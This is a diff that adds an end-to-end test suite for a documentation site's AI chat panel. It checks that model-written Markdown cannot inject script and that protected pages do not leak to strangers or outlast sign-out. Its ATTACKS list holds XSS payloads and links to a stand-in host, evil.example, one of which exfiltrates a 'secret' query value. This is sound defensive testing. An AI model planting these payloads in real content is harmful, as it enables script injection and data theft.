@@ -1,0 +1,225 @@
+/** What a model, a page or a neighbour could do by the panel: its Markdown stays text, and nobody is shown what is not theirs. */
+import { mkdir, mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
+import { canarySite, pathsOf } from '../runtime/protected/canary-site.ts';
+import { canaryWords } from '../runtime/protected/canary-words.ts';
+import { PASSWORD, type ProtectedServer, protectedServer } from '../runtime/protected/protected-server.ts';
+import { waymark } from '../unit/cli/run-cli.ts';
+import { askIn, buildAsking, openPage, openPanel, PROVEN, QUESTION, serveAsking } from './asking.ts';
+import { launch, visit } from './browser.ts';
+import type { BuiltSite } from './built-site.ts';
+
+let site: BuiltSite;
+let browser: Browser;
+
+beforeAll(async () => {
+  site = await buildAsking();
+  browser = await launch();
+});
+
+afterAll(async () => {
+  await browser?.close();
+  site?.remove();
+});
+
+/** A model writes them; what it says first is proven, so that the answer is its own. */
+const ATTACKS = [
+  '<img src=x onerror="window.attacked=1">',
+  '<script>window.attacked=1</script>',
+  '![a](https://evil.example/pixel.png?q=secret)',
+  '[a](javascript:window.attacked=1)',
+  '[a](JaVaScRiPt&#58;window.attacked=1)',
+  '[a](data:text/html,<script>window.attacked=1</script>)',
+  '[a](https://evil.example/phish)',
+  '[a](//evil.example/phish)',
+  '[a](/\\evil.example)',
+  '[a](/refunds "onmouseover=window.attacked=1")',
+  '<https://evil.example/auto>',
+  'https://evil.example/bare',
+  '[a][r]\n\n[r]: https://evil.example/reference',
+  '**[a](https://evil.example/**phish)**',
+  '| <img src=x onerror=window.attacked=1> | `a|<svg onload=window.attacked=1>` |\n| --- | --- |\n| [a](vbscript:x) | b |',
+  '```html"><img src=x onerror=window.attacked=1>\n</code></pre><img src=x onerror=window.attacked=1>\n```',
+  '- > 1. # <b onclick=window.attacked=1>x</b>',
+  '\uE000\uE002999\uE003\uE001 <iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
+  `${'['.repeat(3_000)}${'*'.repeat(2_000)}${'`'.repeat(1_999)}`,
+  `${'> '.repeat(300)}deep`,
+];
+
+/** What an answer on the screen is made of. */
+async function looked(page: Page) {
+  const found = await page.evaluate<{ names: string[]; links: string[]; attributes: string[] }>(`(() => {
+    const all = [...document.querySelectorAll('.ask-turn, .ask-turn *')];
+    return {
+      names: [...new Set(all.map(({ localName }) => localName))],
+      links: all.filter(({ localName }) => localName === 'a').map(({ href }) => href),
+      attributes: all.flatMap((one) => [...one.attributes].map(({ name }) => name)),
+    };
+  })()`);
+  return {
+    links: found.links,
+    markup: found.names.filter((name) => /^(?:img|script|iframe|b|style|object|input|video)$/.test(name)),
+    handlers: found.attributes.filter((name) => /^on|^style$|^src/.test(name)),
+    attacked: await page.evaluate('window.attacked'),
+  };
+}
+
+describe('Markdown of a model', () => {
+  it.each(ATTACKS.map((attack) => [attack.slice(0, 60), attack]))('stays text: %j', async (_, attack) => {
+    const { url } = await serveAsking(site, [{ text: `${PROVEN} [1].\n\n${attack}\n` }], { tokens: 20_000 });
+    const page = await openPage(browser, url);
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(new URL(request.url()).host));
+    await openPanel(page);
+    await askIn(page, QUESTION);
+    expect(await page.locator('.ask-answer').innerText()).toContain(PROVEN);
+    const { links, ...rest } = await looked(page);
+    expect(rest).toEqual({ markup: [], handlers: [], attacked: undefined });
+    for (const link of links) expect(new URL(link).origin).toBe(url);
+    expect(asked.filter((host) => host !== new URL(url).host)).toEqual([]);
+  });
+
+  it('stays text in the panel by itself, also if the server had let all of it through', async () => {
+    const { url } = await serveAsking(site);
+    const page = await openPage(browser, url);
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(new URL(request.url()).host));
+    await page.route('**/ask', (route) => {
+      const { question } = route.request().postDataJSON() as { question: string };
+      const text = ATTACKS[Number(question)] ?? '';
+      const end = {
+        found: true,
+        by: 'model',
+        related: [{ title: text, url: 'javascript:attacked=1' }],
+        close: [text],
+      };
+      const events = [
+        ['source', { number: 1, title: text, section: text, url: 'https://evil.example/source' }],
+        ['source', { number: 2, title: text, url: 'javascript:window.attacked=1' }],
+        ['step', { tool: 'read', text }],
+        ...[true, false].map((proven) => ['part', { text: `${text}\n\n`, sources: [1, 2], proven }]),
+        ['end', end],
+      ];
+      const body = events.map(([name, data]) => `event: ${name}\ndata: ${JSON.stringify(data)}\n\n`).join('');
+      return route.fulfill({ contentType: 'text/event-stream', body });
+    });
+    await openPanel(page);
+    for (const index of ATTACKS.keys()) await askIn(page, String(index));
+    const { links, ...rest } = await looked(page);
+    expect(rest).toEqual({ markup: [], handlers: [], attacked: undefined });
+    // What is said to be the site is believed, and opened on this host.
+    for (const link of links) expect(new URL(link).origin).toBe(url);
+    expect(asked.filter((host) => host !== new URL(url).host)).toEqual([]);
+  });
+});
+
+describe('on a protected site', () => {
+  const words = canaryWords();
+  const { staff, ops } = words;
+  const secret = (audience: typeof staff) => [audience.body, audience.title, audience.heading];
+  let folder: string;
+  let server: ProtectedServer;
+
+  beforeAll(async () => {
+    folder = await mkdtemp(join(tmpdir(), 'waymark-ask-'));
+    await mkdir(join(folder, 'docs'));
+    await canarySite(join(folder, 'docs'), words);
+    const args = ['build', join(folder, 'docs'), '--out', join(folder, 'out'), '--access', 'partial'];
+    const built = await waymark(args);
+    if (built.code !== 0) throw new Error(built.stderr);
+    server = await protectedServer(join(folder, 'out'));
+  });
+
+  afterAll(async () => {
+    await server?.close();
+    await rm(folder, { recursive: true, force: true });
+  });
+
+  async function open(path: string) {
+    const { page, close } = await visit(browser, server.url + path, { width: 1440 });
+    onTestFinished(close);
+    return page;
+  }
+
+  it('a stranger is answered from public pages, a member from theirs, and nobody is shown it after them', async () => {
+    const page = await open('/guides/open');
+    const shown = async () => (await page.locator('#chat-assistant-sheet').allInnerTexts()).join(' ');
+    await openPanel(page);
+    for (const word of secret(staff)) await askIn(page, word);
+    const stranger = (await shown()).split(/\s+/);
+    // Their own questions have the words; answers and pages have none.
+    const answered = (await page.locator('.ask-answer, .ask-end').allInnerTexts()).join(' ');
+    for (const word of secret(staff)) expect(answered).not.toContain(word);
+    expect(stranger.length).toBeGreaterThan(3);
+
+    await page.locator('.bar-links').getByRole('link', { name: 'Sign in' }).click();
+    await page.getByLabel('Name').fill('stella');
+    await page.getByLabel('Password').fill(PASSWORD);
+    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
+    await page.locator('.tabs-bar').filter({ hasText: staff.tag }).waitFor();
+    // The stranger's conversation is not the member's.
+    expect(await page.locator('#chat-assistant-sheet').count()).toBe(0);
+    await openPanel(page);
+    await page.locator('.ask-intro').waitFor();
+    await askIn(page, staff.body);
+    expect(await page.locator('.ask-answer').innerText()).toContain(staff.body);
+    await askIn(page, ops.body);
+    expect(await page.locator('.ask-answer').last().innerText()).not.toContain(ops.body);
+    // Over pages of theirs it goes on.
+    await page.goto(server.url + pathsOf(words, 'staff').page);
+    await page.locator('.ask-question').first().waitFor();
+    const kept = () => page.evaluate<string>('JSON.stringify({ ...sessionStorage })');
+    expect(await kept()).toContain(staff.body);
+
+    await page.locator('.bar-links').getByRole('button', { name: 'Sign out' }).click();
+    await page.getByText('You are signed out').first().waitFor();
+    expect(await kept()).not.toContain(staff.body);
+    await page.goto(`${server.url}/guides/open`);
+    await openPanel(page);
+    await page.locator('.ask-intro').waitFor();
+    expect(await shown()).not.toContain(staff.body);
+  });
+
+  it('the conversation of a session that ended elsewhere is forgotten', async () => {
+    const page = await open('/guides/open');
+    await page.locator('.bar-links').getByRole('link', { name: 'Sign in' }).click();
+    await page.getByLabel('Name').fill('stella');
+    await page.getByLabel('Password').fill(PASSWORD);
+    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
+    await page.locator('.tabs-bar').filter({ hasText: staff.tag }).waitFor();
+    await openPanel(page);
+    await askIn(page, staff.body);
+    await page.context().clearCookies();
+    await page.goto(`${server.url}/guides/open`);
+    await page.locator('html[data-started]').waitFor({ state: 'attached' });
+    expect(await page.locator('#chat-assistant-sheet').count()).toBe(0);
+    await openPanel(page);
+    await page.locator('.ask-intro').waitFor();
+    expect(await page.evaluate<string>('JSON.stringify({ ...sessionStorage })')).not.toContain(staff.body);
+  });
+
+  it('the widget asks as a stranger, also in a browser that is signed in', async () => {
+    const page = await open('/guides/open');
+    await page.locator('.bar-links').getByRole('link', { name: 'Sign in' }).click();
+    await page.getByLabel('Name').fill('both');
+    await page.getByLabel('Password').fill(PASSWORD);
+    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
+    await page.locator('.tabs-bar').filter({ hasText: staff.tag }).waitFor();
+    await page.addScriptTag({ url: `${server.url}/_waymark/ask-widget.js` });
+    const widget = page.locator('waymark-ask');
+    await widget.locator('.launcher').click();
+    for (const word of [...secret(staff), ...secret(ops)]) {
+      const before = await widget.locator('.ask-turn').count();
+      await widget.locator('textarea').fill(word);
+      await page.keyboard.press('Enter');
+      await widget.locator('.ask-turn').nth(before).locator('.ask-actions').waitFor();
+    }
+    const answered = (await widget.locator('.ask-answer, .ask-end').allInnerTexts()).join(' ');
+    for (const word of [...secret(staff), ...secret(ops)]) expect(answered).not.toContain(word);
+    const script = await (await fetch(`${server.url}/_waymark/ask-widget.js`)).text();
+    for (const word of [...secret(staff), ...secret(ops)]) expect(script).not.toContain(word);
+  });
+});
